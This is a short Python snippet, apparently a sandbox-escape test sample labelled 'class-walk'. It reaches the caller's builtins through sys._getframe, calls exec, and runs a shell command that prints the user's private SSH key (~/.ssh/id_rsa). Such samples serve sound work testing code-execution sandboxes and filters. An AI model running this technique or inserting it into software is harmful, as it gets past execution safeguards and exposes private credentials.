# class-walk: sys._getframe walks to the caller's frame and takes its builtins
import sys


def helper():
    caller = sys._getframe(1)
    caller.f_builtins["exec"]("import os; os.system('cat ~/.ssh/id_rsa')")


helper()
